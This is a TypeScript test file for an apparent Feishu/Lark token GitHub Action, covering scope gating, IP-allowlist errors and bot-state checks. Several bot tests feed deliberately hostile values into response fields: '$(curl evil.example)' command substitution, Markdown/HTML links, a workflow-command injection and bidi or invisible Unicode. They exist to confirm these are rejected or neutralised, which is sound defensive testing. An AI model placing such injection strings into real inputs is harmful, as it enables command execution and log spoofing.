// Ready means ready: a green step only when the app will work from this runner. The built bundle, run as the
// runner runs it, against the sandbox: scopes counted for the tenant token only, the IP allowlist explained, and
// the app's state in the tenant and its bot (check-bot).
import MarkdownIt from 'markdown-it'
import { startConnectProxy } from '../harness/connect-proxy.js'
import { type RunResult, runAction } from '../harness/run-action.js'
import {
  BOT_IP_WHITE_LIST,
  FENCED_APP,
  type Sandbox,
  type SandboxApp,
  type SandboxScope,
  TEST_APP,
  TEST_CA_FILE,
  faults,
  startSandbox
} from '../harness/sandbox.js'
import { run } from '../src/main.js'
import { testDeps } from './support/deps.js'
import { fakeCore } from './support/fake-core.js'
import { findLeaks } from './support/leaks.js'

let sandbox: Sandbox
afterEach(async () => {
  await sandbox?.close()
})

async function serve(app: Partial<SandboxApp> = {}): Promise<SandboxApp> {
  const served = { ...TEST_APP, ...app }
  sandbox = await startSandbox({ apps: [served] })
  return served
}

async function runFor(app: SandboxApp, inputs: Record<string, string>, env: Record<string, string> = {}): Promise<RunResult> {
  const result = await runAction({
    inputs: { 'app-id': app.appId, 'app-secret': app.appSecret, 'base-url': sandbox.url, ...inputs },
    env: { RUNNER_DEBUG: '1', ...env }
  })
  expect(findLeaks(result, [app.appSecret, ...sandbox.issuedTokens()])).toEqual([])
  // The company's egress addresses that bot/v3/info lists are never printed, in any form.
  const written = result.stdout + result.stderr + result.files.summary + result.files.output + result.files.env
  for (const address of BOT_IP_WHITE_LIST) {
    expect(written).not.toContain(address)
    expect(written).not.toContain(address.split('.').join('\\.'))
  }
  return result
}

const paths = () => sandbox.requests.map(r => r.path)
const scope = (scope_name: string, grant_status: number, scope_type?: 'tenant' | 'user'): SandboxScope => ({
  scope_name,
  grant_status,
  ...(scope_type && { scope_type })
})

describe('scopes count for the tenant token only', () => {
  it.each([
    ['listed for users only', [scope('im:message', 1, 'user')]],
    ['granted for users, absent for the app', [scope('bitable:app', 1, 'tenant'), scope('im:message', 1, 'user')]]
  ])('a required scope %s is missing, said in words, with the grant link', async (_what, scopes) => {
    const app = await serve({ scopes })
    const result = await runFor(app, { 'required-scopes': 'im:message' })
    expect(result.exitCode).toBe(1)
    expect(result.outputs['missing-scopes']).toBe('["im:message"]')
    expect(result.outputs['granted-scopes']).not.toContain('im:message')
    expect(result.errors).toEqual([
      [
        `1 of 1 required scopes is missing for app ${app.appId}:`,
        `- im:message: enabled for users only (the user identity), so a tenant token does not carry it: enable it for the app identity on the app's Permissions & Scopes (权限管理) page (${sandbox.url}/app/${app.appId}/auth), then publish a version on the app's Version Management & Release (版本管理与发布) page.`,
        `Grant them in one click: ${sandbox.url}/app/${app.appId}/auth?q=im:message&op_from=openapi&token_type=tenant`
      ].join('\n')
    ])
    // The same reason and fix as the error's, in the summary (Markdown escaped there).
    expect(result.summary.replace(/\\(.)/g, '$1')).toContain(
      `| \`im:message\` | 👤 enabled for users only (the user identity), so a tenant token does not carry it | enable it for the app identity on the app's Permissions & Scopes (权限管理) page (${sandbox.url}/app/${app.appId}/auth), then publish a version on the app's Version Management & Release (版本管理与发布) page |`
    )
  })

  describe.each([
    ['user entry first', (entries: SandboxScope[]) => entries],
    ['tenant entry first', (entries: SandboxScope[]) => [...entries].reverse()]
  ])('the same name for both identities, %s', (_order, order) => {
    it('granted for users, awaiting approval for the app: awaiting approval, and the approval request is sent', async () => {
      const app = await serve({ scopes: order([scope('im:message', 1, 'user'), scope('im:message', 2, 'tenant')]) })
      const result = await runFor(app, { 'required-scopes': 'im:message', 'request-approval': 'true' })
      expect(result.exitCode).toBe(1)
      expect(result.outputs).toMatchObject({ 'missing-scopes': '["im:message"]', 'granted-scopes': '[]', 'approval-requested': 'true' })
      expect(result.errors[0]).toContain(
        "- im:message: configured on the app but not granted by the tenant: the tenant admin must approve it ('request-approval: true' asks them once; its own line says whether the request went through)."
      )
    })

    it('granted for the app, refused for users: granted', async () => {
      const app = await serve({ scopes: order([scope('im:message', 2, 'user'), scope('im:message', 1, 'tenant')]) })
      const result = await runFor(app, { 'required-scopes': 'im:message', 'on-unexpected-scopes': 'fail' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs).toMatchObject({ 'missing-scopes': '[]', 'granted-scopes': '["im:message"]', 'unexpected-scopes': '[]' })
      expect(result.summary).toContain('| `im:message` | ✅ granted |')
    })
  })

  it('an entry without scope_type counts for the app, as older answers list it', async () => {
    const app = await serve({ scopes: [scope('im:message', 1)] })
    const result = await runFor(app, { 'required-scopes': 'im:message' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['granted-scopes']).toBe('["im:message"]')
  })

  it('the least-privilege audit ignores scopes of the user identity only: the token cannot use them', async () => {
    const app = await serve({
      scopes: [scope('im:message', 1, 'tenant'), scope('contact:user.base:readonly', 1, 'user'), scope('drive:drive', 2, 'user')]
    })
    const result = await runFor(app, { 'required-scopes': 'im:message', 'on-unexpected-scopes': 'fail' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ 'unexpected-scopes': '[]', 'granted-scopes': '["im:message"]' })
    expect(result.summary).toContain('The app holds no scope beyond the required ones.')
  })
})

describe('the IP allowlist', () => {
  const allowlistWords = new RegExp(
    [
      "this runner's public IP address is not on the app's IP allowlist\\. ",
      'The token endpoint ignores the allowlist, which is why a token was issued; every other call from this runner is refused\\. ',
      'GitHub-hosted runners get a different address from job to job: run the job on a runner with a fixed egress address ',
      '\\(self-hosted, or a larger runner with static IP addresses\\) and add that address to the allowlist, or clear the allowlist, ',
      "in the app's Security Settings → IP allowlist \\(安全设置 → IP 白名单\\) in the developer console \\(http://127\\.0\\.0\\.1:\\d+/app/cli_f0e1d2c3b4a59687\\)\\. ",
      '\\(code 99991401, msg ".*", HTTP 400, log id \\w+\\)$'
    ].join('')
  )

  it('stops the gate at the scopes call with the explanation, after the token was issued; not retried', async () => {
    sandbox = await startSandbox({ apps: [FENCED_APP] })
    const result = await runFor(FENCED_APP, { 'required-scopes': 'im:message', 'max-attempts': '4' })
    expect(result.exitCode).toBe(1)
    expect(result.outputs.token).toMatch(/^t-/)
    expect(result.errors).toEqual([expect.stringMatching(/^Could not list the app's scopes: /)])
    expect(result.errors[0]).toMatch(allowlistWords)
    expect(paths()).toEqual(['/open-apis/auth/v3/tenant_access_token/internal', '/open-apis/application/v6/scopes'])
    expect(result.stdout).not.toContain('Retrying')
  })

  it('stops the bot check the same way', async () => {
    sandbox = await startSandbox({ apps: [FENCED_APP] })
    const result = await runFor(FENCED_APP, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([expect.stringMatching(/^Could not check the app's bot: /)])
    expect(result.errors[0]).toMatch(allowlistWords)
    expect(paths()).toEqual(['/open-apis/auth/v3/tenant_access_token/internal', '/open-apis/bot/v3/info'])
    expect(result.outputs).not.toHaveProperty('bot-open-id')
  })

  it('is explained on the approval request too, as a warning that leaves the gate as it was', async () => {
    await serve()
    sandbox.failNext(faults.pass(), faults.pass(), faults.json(400, { code: 99991401, msg: 'ip not allowed' }))
    const core = fakeCore({
      'app-id': TEST_APP.appId,
      'app-secret': TEST_APP.appSecret,
      'base-url': sandbox.url,
      'required-scopes': 'bitable:app',
      'request-approval': 'true'
    })
    await run(testDeps(core))
    const warnings = core.events.flatMap(e => (e.type === 'warning' ? [e.message] : []))
    expect(warnings).toEqual([expect.stringMatching(/^Could not ask the tenant admin .*not on the app's IP allowlist.*code 99991401/)])
    expect(core.failed).toMatch(/^1 of 1 required scopes is missing/)
  })
})

describe('check-bot: the app and its bot', () => {
  it('is off by default: no request, no outputs', async () => {
    const app = await serve()
    const result = await runFor(app, {})
    expect(result.exitCode).toBe(0)
    expect(paths()).toEqual(['/open-apis/auth/v3/tenant_access_token/internal'])
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.outputs).not.toHaveProperty('bot-open-id')
  })

  it('an enabled app: one more request on the same connection, the app and its bot in the outputs and the summary', async () => {
    const app = await serve()
    const result = await runFor(app, { 'required-scopes': 'im:message', 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(paths()).toEqual([
      '/open-apis/auth/v3/tenant_access_token/internal',
      '/open-apis/application/v6/scopes',
      '/open-apis/bot/v3/info'
    ])
    expect(sandbox.requests.map(r => r.connection)).toEqual([1, 1, 1])
    expect(sandbox.requests[2]!.headers.authorization).toBe(`Bearer ${sandbox.issuedTokens()[0]}`)
    expect(result.outputs).toMatchObject({ 'app-name': 'Release Notifier', 'bot-open-id': 'ou_7d8a6e6df7621556ce0d21922b676706' })
    expect(result.summary).toContain('| App name | `Release Notifier` |')
    expect(result.summary).toContain('| Bot open_id | `ou_7d8a6e6df7621556ce0d21922b676706` |')
    expect(result.summary).toContain('## Feishu/Lark tenant token: ✅ Token issued')
  })

  it('token, scopes and bot info share one tunnel through a proxy', async () => {
    sandbox = await startSandbox({ tls: true })
    const proxy = await startConnectProxy({ host: '127.0.0.1', port: sandbox.port })
    try {
      const result = await runAction({
        inputs: {
          'app-id': TEST_APP.appId,
          'app-secret': TEST_APP.appSecret,
          'base-url': 'https://feishu-sandbox.invalid',
          'required-scopes': 'im:message',
          'check-bot': 'true'
        },
        env: { HTTPS_PROXY: proxy.url, NODE_EXTRA_CA_CERTS: TEST_CA_FILE }
      })
      expect(result.exitCode).toBe(0)
      expect(proxy.tunnels).toEqual(['feishu-sandbox.invalid:443'])
      expect(sandbox.requests.map(r => r.connection)).toEqual([1, 1, 1])
    } finally {
      await proxy.close()
    }
  })

  it.each([
    [
      0,
      /the app is initialised but not yet installed in the tenant \(activate_status 0; .*\)\. Publish a version on the app's Version Management & Release \(版本管理与发布\) page \(http:\/\/127/
    ],
    [1, /the tenant admin has disabled the app \(activate_status 1; .*\)\. Ask the tenant admin to enable it again/],
    [3, /the app is installed but awaits enabling \(activate_status 3; .*\)\. Have the tenant admin enable it/],
    [
      4,
      /the app was upgraded and the new version awaits enabling \(activate_status 4; .*\)\. Have the tenant admin enable the new version/
    ],
    [5, /the app is disabled because its licence expired \(activate_status 5; .*\)\. Have the tenant admin renew the app's licence/],
    [
      6,
      /the app is disabled because the tenant's Lark plan expired or was downgraded \(activate_status 6; .*\)\. .*renew or upgrade the plan/
    ],
    [9, /the app is in a state this action does not know \(activate_status 9; .*\)\. Check the app's state/]
  ])('activate_status %i fails the step in plain words, with what to do', async (status, words) => {
    const app = await serve({
      bot: { activate_status: status, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706' }
    })
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(new RegExp(`^The app ${app.appId} \\("Release Notifier"\\) is not usable in this tenant: `))
    ])
    expect(result.errors[0]).toMatch(words)
    expect(result.errors[0]).toMatch(/only 2, enabled, is usable.*\(log id \w+\)$/)
    expect(result.outputs).not.toHaveProperty('bot-open-id')
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.summary).toContain('## Feishu/Lark tenant token: ❌ App not usable here')
    expect(result.summary).toContain('### App and bot')
    expect(sandbox.requests.filter(r => r.path === '/open-apis/bot/v3/info')).toHaveLength(1)
  })

  it('fails with the scope gate in one error when both find something', async () => {
    const app = await serve({ bot: { activate_status: 1, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706' } })
    const result = await runFor(app, { 'required-scopes': 'docx:document', 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toHaveLength(1)
    expect(result.errors[0]).toMatch(/^1 of 1 required scopes is missing.*\n\nThe app cli_\w+ \("Release Notifier"\) is not usable/s)
    expect(result.summary).toContain('❌ Required scopes missing, app not usable here')
  })

  it('a bot check that fails after the gate found a missing scope says both, in one error', async () => {
    const app = await serve({ bot: false })
    const result = await runFor(app, { 'required-scopes': 'docx:document', 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toHaveLength(1)
    expect(result.errors[0]).toMatch(/^1 of 1 required scopes is missing for app .*\n\nCould not check the app's bot: /s)
    expect(result.summary).toContain('| `docx:document` | ❌ not configured')
  })

  it('an app without the Bot capability: code, msg and log id, and what to enable', async () => {
    const app = await serve({ bot: false })
    const result = await runFor(app, { 'check-bot': 'true', 'max-attempts': '4' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(
        /^Could not check the app's bot: the app's Bot capability is not activated\. Enable the Bot capability on the app's page in the developer console \(http:\/\/127\.0\.0\.1:\d+\/app\/cli_\w+\): Add Features → Bot \(添加应用能力 → 机器人\); then publish a version with it on the app's Version Management & Release \(版本管理与发布\) page, and have the tenant admin enable that version\. \(code 230006, msg "Bot ability is not activated\.", HTTP 400, log id \w+\)$/
      )
    ])
    expect(paths().filter(path => path === '/open-apis/bot/v3/info')).toHaveLength(1)
  })

  const md = new MarkdownIt({ html: true, linkify: true })
  const bot = (fields: Record<string, unknown>) =>
    faults.json(200, {
      code: 0,
      msg: 'ok',
      bot: { activate_status: 2, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706', ...fields }
    })

  it.each([
    ['an app_name of 10,000 characters', { app_name: 'n'.repeat(10_000) }, /'bot\.app_name' is 10000 characters long/],
    ['an app_name that is a number', { app_name: 42 }, /'bot\.app_name' is not a string/],
    ['an open_id with a path in it', { open_id: 'ou_../../x' }, /'bot\.open_id' does not look like an open_id/],
    ['an open_id in capitals', { open_id: 'ou_7D8A6E' }, /'bot\.open_id' does not look like an open_id/],
    ['a command for an open_id', { open_id: '$(curl evil.example)' }, /'bot\.open_id' does not look like an open_id/],
    ['no open_id', { open_id: undefined }, /'bot\.open_id' does not look like an open_id/],
    ['activate_status as a string', { activate_status: '2' }, /'bot\.activate_status' is missing or not a whole number/]
  ])('%s is a malformed answer: nothing of it reaches the outputs', async (_what, fields, words) => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot(fields))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([expect.stringMatching(/^Could not check the app's bot: the server at .* answered code 0 but /)])
    expect(result.errors[0]).toMatch(words)
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.outputs).not.toHaveProperty('bot-open-id')
    expect(result.stdout).not.toMatch(/^::error::injected/m)
    expect(result.stdout + result.summary).not.toContain('evil.example')
  })

  it('an app_name a shell or Markdown would act on is output whole, as plain text, and shown inert', async () => {
    const app = await serve()
    const name = "Bob's Bot (prod) `id` $(curl evil.example) [x](https://evil.example) <b>; * ? ~ !"
    sandbox.failNext(faults.pass(), bot({ app_name: name }))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['app-name']).toBe(name)
    expect(result.outputs['bot-open-id']).toBe('ou_7d8a6e6df7621556ce0d21922b676706')
    expect(result.warnings).toEqual([])
    const html = md.render(result.summary)
    expect(html).not.toMatch(/<a |<b>|<img/)
    expect(html).toContain("<code>Bob's Bot (prod) `id` $(curl evil.example) [x](https://evil.example) &lt;b&gt;; * ? ~ !</code>")
  })

  it.each([
    ['a line break and a workflow command', 'Notifier\n::error::injected', 'Notifier ::error::injected', 'Notifier ::error::injected'],
    ['a bidi override', 'Notifier\u202egnp.exe', 'Notifier\\u202Egnp.exe', 'Notifiergnp.exe'],
    [
      'a soft hyphen, a Hangul filler and a tag character',
      'Re\u00adlease\u3164 Bot\u{E0041}',
      'Re\\u00ADlease\\u3164 Bot\\u{E0041}',
      'Release Bot'
    ],
    ['Chinese, accents and emoji', '发布机器人 Café 🚀', '发布机器人 Café 🚀', '发布机器人 Café 🚀']
  ])(
    'an app_name with %s: output without what hides, logged with it escaped, every script as itself',
    async (_what, name, logged, output) => {
      const app = await serve()
      sandbox.failNext(faults.pass(), bot({ app_name: name }))
      const result = await runFor(app, { 'check-bot': 'true' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs['app-name']).toBe(output)
      expect(result.stdout).toContain(`The app is enabled in the tenant: "${logged}"; its bot is ou_7d8a6e6df7621556ce0d21922b676706.`)
      expect(result.stdout).not.toMatch(/^::error::injected/m)
      expect(result.commands.filter(([command]) => command === 'error')).toEqual([])
    }
  )

  it.each([
    ['no app_name', { app_name: undefined }],
    ['a null app_name', { app_name: null }]
  ])('%s: the app is usable all the same; app-name is empty', async (_what, fields) => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot(fields))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ 'app-name': '', 'bot-open-id': 'ou_7d8a6e6df7621556ce0d21922b676706' })
    expect(result.stdout).toContain('The app is enabled in the tenant: its name is not given; its bot is ou_')
  })

  it('an app at activate_status 0 whose name is null is reported by its state, not as a malformed answer', async () => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot({ activate_status: 0, app_name: null, open_id: null }))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(new RegExp(`^The app ${app.appId} is not usable in this tenant: the app is initialised but not yet installed`))
    ])
  })

  it('a bad check-bot is an input error, with no request sent', async () => {
    const app = await serve()
    const result = await runFor(app, { 'check-bot': 'yes' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual(["Input 'check-bot' is \"yes\": use 'true' or 'false'."])
    expect(sandbox.requests).toEqual([])
  })
})
